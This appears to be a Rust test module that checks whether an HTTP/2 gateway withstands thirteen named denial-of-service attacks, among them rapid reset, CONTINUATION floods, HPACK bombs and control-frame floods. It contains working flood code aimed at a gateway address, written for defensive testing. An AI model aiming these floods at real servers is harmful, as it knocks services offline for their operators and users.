//! Attacks of HTTP/2 clients, each on a connection of its own, until the gateway ends it or has refused all
//! there is.

use std::net::SocketAddr;
use std::thread;
use std::time::{Duration, Instant};

use crate::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, Http2Client, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, block, frame,
};

/// Maximum number of times that an attack is repeated on a connection that does not end.
const REPEATED: usize = 2_000_000;

/// An attack.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    /// Its name in messages.
    pub name: &'static str,
    /// The kind of flood in the gateway's counters, if it is one.
    pub flood: Option<&'static str>,
    /// Sends it to the gateway's address. Requests are for `/origin/large`.
    run: fn(SocketAddr) -> Option<Ended>,
}

/// The end of a connection that the gateway has closed.
#[derive(Debug, Clone, Copy)]
pub struct Ended {
    /// The error code of its `GOAWAY`.
    pub error: u32,
    /// Time from there to the end.
    pub lingered: Duration,
}

/// The attacks that have a bound (RFC 9113 §10.5), with the numbers by which they are known.
pub const ATTACKS: [Attack; 13] = [
    Attack { name: "CVE-2023-44487, streams reset at once", flood: None, run: resets },
    Attack { name: "CVE-2025-8671, streams that the gateway is made to reset", flood: None, run: overflows },
    Attack { name: "CVE-2024-27316, fields without an end", flood: Some("frames"), run: continuations },
    Attack { name: "CVE-2016-6581, fields that grow when decoded", flood: None, run: bombs },
    Attack { name: "CVE-2026-47774, a cookie in many parts", flood: None, run: crumbs },
    Attack { name: "CVE-2019-9512, PING", flood: Some("pings"), run: pings },
    Attack { name: "CVE-2019-9515, SETTINGS", flood: Some("settings"), run: settings },
    Attack { name: "CVE-2019-9513, PRIORITY", flood: Some("priorities"), run: priorities },
    Attack { name: "WINDOW_UPDATE of the connection", flood: Some("updates"), run: updates },
    Attack { name: "frames of unknown types", flood: Some("updates"), run: unknown },
    Attack { name: "CVE-2019-9518, DATA without bytes", flood: Some("frames"), run: empty_data },
    Attack { name: "CVE-2019-9511, windows of one byte", flood: Some("updates"), run: dribble },
    Attack { name: "CVE-2019-9517, responses that nobody reads", flood: None, run: unread },
];

impl Attack {
    /// Sends it to a gateway whose provider responds to `/origin/large` with some MiB. Returns the end of the
    /// connection if the gateway has closed it and said why.
    pub fn run(&self, gateway: SocketAddr) -> Option<Ended> {
        (self.run)(gateway)
    }
}

/// Sends what `next` makes of a number, again and again, until the connection ends. Meanwhile all is read.
fn until_ended(mut client: Http2Client, next: impl Fn(u32) -> Vec<u8>) -> Option<Ended> {
    let mut reader = client.reader();
    let reading = thread::spawn(move || {
        let mut ending = None;
        while let Some(frame) = reader.receive() {
            if frame.kind == GOAWAY {
                ending = Some((frame.error(), Instant::now()));
            }
        }
        ending.map(|(error, since)| Ended { error, lingered: since.elapsed() })
    });
    let is_ended = (0..).take(REPEATED).any(|number| !client.send(&next(number)));
    assert!(is_ended, "the connection was to end");
    reading.join().unwrap()
}

/// The fields of a request.
fn fields<'a>(method: &'a str, own: &'a str, more: &[(&'a str, &'a str)]) -> Vec<u8> {
    let mut fields =
        vec![(":method", method), (":scheme", "http"), (":authority", own), (":path", "/origin/large")];
    fields.extend_from_slice(more);
    block(&fields)
}

fn repeated(gateway: SocketAddr, bytes: &[u8]) -> Option<Ended> {
    until_ended(Http2Client::connect(gateway), |_| bytes.to_vec())
}

fn pings(gateway: SocketAddr) -> Option<Ended> {
    repeated(gateway, &frame(PING, 0, 0, &[0; 8]))
}

fn settings(gateway: SocketAddr) -> Option<Ended> {
    repeated(gateway, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]))
}

fn priorities(gateway: SocketAddr) -> Option<Ended> {
    repeated(gateway, &frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1]))
}

fn updates(gateway: SocketAddr) -> Option<Ended> {
    repeated(gateway, &frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()))
}

fn unknown(gateway: SocketAddr) -> Option<Ended> {
    repeated(gateway, &frame(0xbb, 0, 0, b"x"))
}

/// A request in the stream with this number, and another frame behind it.
fn with_request(own: &str, number: u32, kind: u8, payload: [u8; 4]) -> Vec<u8> {
    let stream = 2 * number + 1;
    let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields("GET", own, &[]));
    [request, frame(kind, 0, stream, &payload)].concat()
}

fn resets(gateway: SocketAddr) -> Option<Ended> {
    let (own, cancel) = (gateway.to_string(), 8_u32.to_be_bytes());
    until_ended(Http2Client::connect(gateway), |number| with_request(&own, number, RST_STREAM, cancel))
}

/// A window that overflows is an error of the stream (RFC 9113 §6.9.1).
fn overflows(gateway: SocketAddr) -> Option<Ended> {
    let (own, all) = (gateway.to_string(), 0x7fff_ffff_u32.to_be_bytes());
    until_ended(Http2Client::connect(gateway), |number| with_request(&own, number, WINDOW_UPDATE, all))
}

fn continuations(gateway: SocketAddr) -> Option<Ended> {
    let own = gateway.to_string();
    let mut client = Http2Client::connect(gateway);
    client.frame(HEADERS, 0, 1, &fields("GET", &own, &[]));
    let piece = frame(CONTINUATION, 0, 1, &block(&[("x-a", &"x".repeat(1_000))]).repeat(16));
    until_ended(client, |_| piece.clone())
}

/// A field that enters the table (RFC 7541 §6.2.1), and is then named twelve thousand times by a byte each.
fn bombs(gateway: SocketAddr) -> Option<Ended> {
    let own = gateway.to_string();
    let mut bomb = block(&[("x-a", &"x".repeat(3_000))]);
    bomb[0] = 0x40;
    let all = [fields("GET", &own, &[]), bomb, vec![0xbe; 12_000]].concat();
    until_ended(Http2Client::connect(gateway), |number| {
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &all)
    })
}

/// Each request is refused, and the client goes on for a thousand.
fn crumbs(gateway: SocketAddr) -> Option<Ended> {
    let own = gateway.to_string();
    let all = fields("GET", &own, &[("cookie", "a=1"); 200]);
    let mut client = Http2Client::connect(gateway);
    for number in 0..1_000 {
        client.frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &all);
        let answer = std::iter::from_fn(|| client.receive());
        let mut answer = answer.skip_while(|frame| ![HEADERS, RST_STREAM].contains(&frame.kind));
        assert!(answer.next().is_some_and(|frame| frame.status() != Some(200)));
    }
    None
}

fn empty_data(gateway: SocketAddr) -> Option<Ended> {
    let own = gateway.to_string();
    let mut client = Http2Client::connect(gateway);
    client.frame(HEADERS, END_HEADERS, 1, &fields("POST", &own, &[]));
    let frames = frame(DATA, 0, 1, &[]).repeat(100);
    until_ended(client, |_| frames.clone())
}

/// A client whose streams have no window at first (RFC 9113 §6.5.2).
fn without_window(gateway: SocketAddr) -> Http2Client {
    let mut client = Http2Client::connect(gateway);
    client.frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    client
}

fn dribble(gateway: SocketAddr) -> Option<Ended> {
    let mut client = without_window(gateway);
    client.get(1, gateway, "/origin/large");
    client.until_on(1, HEADERS);
    let update = frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes());
    until_ended(client, |_| update.clone())
}

/// As many streams as there may be, each of which has its head and nothing else.
fn unread(gateway: SocketAddr) -> Option<Ended> {
    let mut client = without_window(gateway);
    for number in 0..100 {
        client.get(2 * number + 1, gateway, "/origin/large");
    }
    for _ in 0..100 {
        client.until(HEADERS);
    }
    // Meanwhile the gateway receives what it will hold.
    for _ in 0..50 {
        client.frame(PING, 0, 0, &[0; 8]);
        client.until(PING);
    }
    None
}
